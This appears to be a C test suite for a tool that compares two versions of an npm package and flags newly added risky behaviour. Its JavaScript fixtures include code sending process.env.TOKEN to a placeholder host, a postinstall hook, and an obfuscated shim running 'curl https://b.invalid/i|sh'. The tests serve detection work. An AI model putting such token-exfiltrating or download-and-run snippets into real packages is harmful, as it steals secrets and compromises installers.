/* Two versions of a package: first what is not new, then what is. */
#include <errno.h>

#include "base/arena.h"
#include "base/limits.h"
#include "observe/analyse.h"
#include "observe/scan.h"
#include "observed.h"
#include "tarball.h"
#include "test.h"

struct file {
        const char *path, *text;
};

static struct qn_analyser *an;
static struct qn_buf before = { .max = TB_MAX }, now = { .max = TB_MAX },
                     lines = { .max = 1 << 22 };

#define MANIFEST(version, more) \
        "{\"name\":\"x\",\"version\":\"" version "\",\"main\":\"index.js\"" more "}"

static void build(struct qn_buf *b, const struct file *files, size_t n)
{
        char path[128];

        qn_buf_reset(b);
        for (size_t i = 0; i < n; i++) {
                snprintf(path, sizeof path, "package/%s", files[i].path);
                tb_file(b, path, files[i].text);
        }
        qn_buf_fill(b, 0, 1024);
}

static struct qn_str observe(void)
{
        struct qn_analyse_in in = { .archive = qn_cur_mem(now.p, now.n),
                                    .previous = qn_cur_mem(before.p, before.n) };
        const struct qn_event_set *set = NULL;
        struct qn_observers *o = NULL;
        struct qn_err err = { 0 };

        if (!an) {
                if (qn_observers_load(TEST_DATA, &o, &err) < 0)
                        fail_msg("%s", err.msg);
                ASSERT_EQ(qn_analyser_new(o, &an), 0);
        }
        ASSERT_EQ(qn_analyse(an, &in, &set), 0);
        qn_buf_reset(&lines);
        for (size_t i = 0; i < set->n; i++)
                observed_add(&lines, &set->events[i]);
        qn_buf_byte(&lines, '\0');
        lines.n--;
        return qn_buf_view(&lines);
}

static void versions(const struct file *a, size_t na, const struct file *b, size_t nb)
{
        build(&before, a, na);
        build(&now, b, nb);
        observe();
}

#define VERSIONS(a, b) versions(a, QN_ARRAY_SIZE(a), b, QN_ARRAY_SIZE(b))

static void has(const char *want)
{
        if (!observed_has(qn_buf_view(&lines), want))
                fail_msg("no \"%s\" in\n%s", want, lines.p);
}

static void has_not(const char *want)
{
        if (observed_has(qn_buf_view(&lines), want))
                fail_msg("\"%s\" in\n%s", want, lines.p);
}

#define CALLS_OUT                                                                \
        "require('https').get('https://a.invalid/v1.2.3/x'); exports.a = () => " \
        "process.env.HOME;\n"

TEST(nothing_is_new_in_the_same_package)
{
        const struct file a[] = { { "package.json", MANIFEST("1.0.0", "") },
                                  { "index.js", CALLS_OUT } };

        VERSIONS(a, a);
        has("net.connect host=a.invalid");
        has_not("net.connect new=");
        has("version.diff what=release which=other");
        has_not("version.diff what=code");
        has_not("version.diff what=growth");
}

TEST(nothing_is_new_without_a_version_before)
{
        const struct file a[] = { { "package.json", MANIFEST("1.0.0", "") },
                                  { "index.js", CALLS_OUT } };

        build(&now, a, 2);
        qn_buf_reset(&before);
        observe();
        has_not("net.connect new=");
        has_not("version.diff ");
}

TEST(a_file_that_moved_is_not_new)
{
        const struct file a[] = { { "package.json", MANIFEST("1.0.0", "") },
                                  { "index.js", CALLS_OUT } };
        const struct file b[] = { { "package.json", MANIFEST("1.0.1", "") },
                                  { "index.js", "require('./lib')" },
                                  { "lib/index.js", CALLS_OUT } };

        VERSIONS(a, b);
        has_not("net.connect new=");
        has_not("env.read new=");
        has("version.diff what=release which=patch");
}

TEST(numbers_in_addresses_are_not_news)
{
        const struct file a[] = { { "package.json", MANIFEST("1.0.0", "") },
                                  { "index.js", CALLS_OUT } };
        const struct file b[] = { { "package.json", MANIFEST("1.1.0", "") },
                                  { "index.js",
                                    "require('https').get('https://a.invalid/v1.3.0/x');" } };

        VERSIONS(a, b);
        has("net.connect new=code");
        has_not("net.connect new=behaviour");
        has("version.diff which=minor");
}

TEST(renamed_and_minified_code_is_not_new)
{
        const struct file a[] = {
                { "package.json", MANIFEST("1.0.0", "") },
                { "index.js",
                  "function load(name) {\n  if (name) {\n    return require('fs')"
                  ".readFileSync(process.env.CONF_DIR + name);\n  }\n}\nmodule.exports = load;" }
        };
        const struct file b[] = { { "package.json", MANIFEST("1.0.1", "") },
                                  { "index.js",
                                    "module.exports=function(e){if(e)return require(\"fs\")"
                                    ".readFileSync(process.env.CONF_DIR+e)};" } };

        VERSIONS(a, b);
        has("env.read name=CONF_DIR");
        has_not("env.read new=");
        has_not("file.read new=");
}

TEST(a_statement_added_to_a_function_is_new_and_its_neighbours_are_not)
{
        const struct file a[] = {
                { "package.json", MANIFEST("1.0.0", "") },
                { "index.js",
                  CALLS_OUT "function f() { require('fs').readFileSync('/etc/hosts'); }" }
        };
        const struct file b[] = { { "package.json", MANIFEST("1.0.1", "") },
                                  { "index.js", CALLS_OUT
                                    "function f() { require('fs').readFileSync('/etc/hosts');"
                                    " require('https').get('https://b.invalid/y'); }" } };

        VERSIONS(a, b);
        has("net.connect host=b.invalid new=behaviour");
        has_not("net.connect host=a.invalid new=");
        has_not("file.read new=");
        has("version.diff what=code");
}

TEST(the_first_of_its_kind)
{
        const struct file a[] = { { "package.json", MANIFEST("1.0.0", "") },
                                  { "index.js", "exports.a = 1" } };
        const struct file b[] = { { "package.json",
                                    MANIFEST("1.0.1",
                                             ",\"scripts\":{\"postinstall\":\"node s.js\"}") },
                                  { "index.js", "exports.a = 1" },
                                  { "s.js", "require('child_process').exec('uname -a')" } };

        VERSIONS(a, b);
        has("install.hook new=kind");
        has("proc.exec new=kind");
        has("version.diff what=files count=1");
        has("version.diff what=growth");
}

TEST(a_hook_whose_command_changed)
{
        const struct file a[] = { { "package.json",
                                    MANIFEST("1.0.0",
                                             ",\"scripts\":{\"postinstall\":\"node a.js\"}") },
                                  { "a.js", "" } };
        const struct file b[] = { { "package.json",
                                    MANIFEST("1.0.1",
                                             ",\"scripts\":{\"postinstall\":\"node b.js\"}") },
                                  { "b.js", "" } };

        VERSIONS(a, b);
        has("install.hook new=behaviour");
}

TEST(dependencies)
{
        const struct file a[] = { { "package.json",
                                    MANIFEST("1.0.0", ",\"dependencies\":{\"old\":\"^1\"}") },
                                  { "index.js", "require('old')" } };
        const struct file b[] = {
                { "package.json",
                  MANIFEST("1.0.1",
                           ",\"dependencies\":{\"old\":\"^2\",\"used\":\"^1\",\"unused\":\"^1\"}"
                           ",\"devDependencies\":{\"tool\":\"1\"}") },
                { "index.js", "require('old'); require('used/part')" }
        };

        VERSIONS(a, b);
        has_not("version.diff name=old");
        has_not("version.diff name=tool");
        has("version.diff name=used what=dependency how=prod");
        has_not("version.diff name=used flags=not-loaded");
        has("version.diff name=unused flags=not-loaded");
}

TEST(a_broken_version_before_is_told)
{
        const struct file b[] = { { "package.json", MANIFEST("1.0.1", "") } };

        build(&now, b, 1);
        qn_buf_reset(&before);
        qn_buf_puts(&before, "\x1f\x8b not a gzip member");
        observe();
        has("unanalysed what=previous");
}

TEST(the_order_of_files_does_not_matter)
{
        const struct file a[] = { { "package.json", MANIFEST("1.0.0", "") },
                                  { "index.js", CALLS_OUT } };
        const struct file b[] = { { "package.json", MANIFEST("1.0.1", "") },
                                  { "index.js", CALLS_OUT "eval(x)" },
                                  { "z.js", "require('http').get('http://c.invalid/')" } };
        const struct file c[] = { b[2], b[1], b[0] };
        struct qn_buf first = QN_BUF_INIT(1 << 20);

        VERSIONS(a, b);
        qn_buf_puts(&first, lines.p);
        qn_buf_byte(&first, '\0');
        VERSIONS(a, c);
        assert_string_equal(first.p, lines.p);
        qn_buf_done(&first);
}

#define FILLER(name)                                                                             \
        "exports." name " = function (list) { const out = []; for (const one of list) out.push(" \
        "one.name + one.kind + '" name "'); return out.join(', '); };\n"
#define PAYLOAD \
        "function go() { require('https').get('https://b.invalid/' + process.env.TOKEN); }\n"

TEST(what_stood_in_a_comment_is_new)
{
        const struct file a[] = { { "package.json", MANIFEST("1.0.0", "") },
                                  { "index.js", FILLER("a") FILLER("b") "/*\n" PAYLOAD "*/\n" } };
        const struct file b[] = { { "package.json", MANIFEST("1.0.1", "") },
                                  { "index.js",
                                    FILLER("a") FILLER("b") "/**/\n" PAYLOAD "\ngo();" } };

        VERSIONS(a, b);
        has("net.connect host=b.invalid new=kind");
        VERSIONS(b, b);
        has_not("net.connect new=");
}

TEST(what_stood_in_a_text_is_new)
{
        const struct file a[] = { { "package.json", MANIFEST("1.0.0", "") },
                                  { "index.js",
                                    FILLER("a") "x = `\n" PAYLOAD "`;\n" FILLER("b") } };
        const struct file b[] = { { "package.json", MANIFEST("1.0.1", "") },
                                  { "index.js",
                                    FILLER("a") "x = ``;\n" PAYLOAD "go();\n" FILLER("b") } };

        VERSIONS(a, b);
        has("net.connect host=b.invalid new=kind");
}

TEST(a_function_beside_a_changed_one_is_not_new)
{
        const struct file a[] = { { "package.json", MANIFEST("1.0.0", "") },
                                  { "index.js", FILLER("a") PAYLOAD FILLER("b") "go();" } };
        const struct file b[] = { { "package.json", MANIFEST("1.0.1", "") },
                                  { "index.js",
                                    FILLER("c") PAYLOAD FILLER("b") "go(); go(eval);" } };

        VERSIONS(a, b);
        has("net.connect host=b.invalid");
        has_not("net.connect new=");
        has("version.diff what=code");
}

/* Only statements that are put together anew. */
TEST(code_that_moved_between_functions_is_not_new)
{
        const struct file a[] = { { "package.json", MANIFEST("1.0.0", "") },
                                  { "index.js", FILLER("a") PAYLOAD FILLER("b") } };
        const struct file b[] = {
                { "package.json", MANIFEST("1.0.1", "") },
                { "index.js",
                  FILLER("a") PAYLOAD FILLER(
                          "b") "function again() { require('https').get('https://b.invalid/' + "
                               "process.env.TOKEN); }" }
        };

        VERSIONS(a, b);
        has_not("net.connect new=");
}

/* In a large package the machine runs what is new, whatever the syntax says: a bundler's shim hides that this starts something. */
TEST(new_code_is_run_whatever_the_size)
{
        static char big[200 << 10], changed[sizeof big + 1024];
        static const char shim[] =
                "(()=>{var n=(e=>typeof require<'u'?require:e)(0);var "
                "u=(e,t)=>()=>(t||e((t={exports:{}})"
                ".exports,t),t.exports);var i=u(s=>{s.start=function(){n('child_process')"
                ".exec('curl https://b.invalid/i|sh')}});i().start()})();";
        const struct file a[] = { { "package.json", MANIFEST("1.0.0", "") }, { "index.js", big } };
        const struct file b[] = { { "package.json", MANIFEST("1.0.1", "") },
                                  { "index.js", changed } };
        size_t n = 0;

        for (unsigned i = 0; n < sizeof big - 100; i++)
                n += (size_t)snprintf(big + n, sizeof big - n,
                                      "exports.f%u = (a) => a.map((x) => x + %u);\n", i, i);
        snprintf(changed, sizeof changed, "%s%s", big, shim);
        VERSIONS(a, b);
        has("proc.exec program=curl new=kind");
        has("download.run new=kind");
}
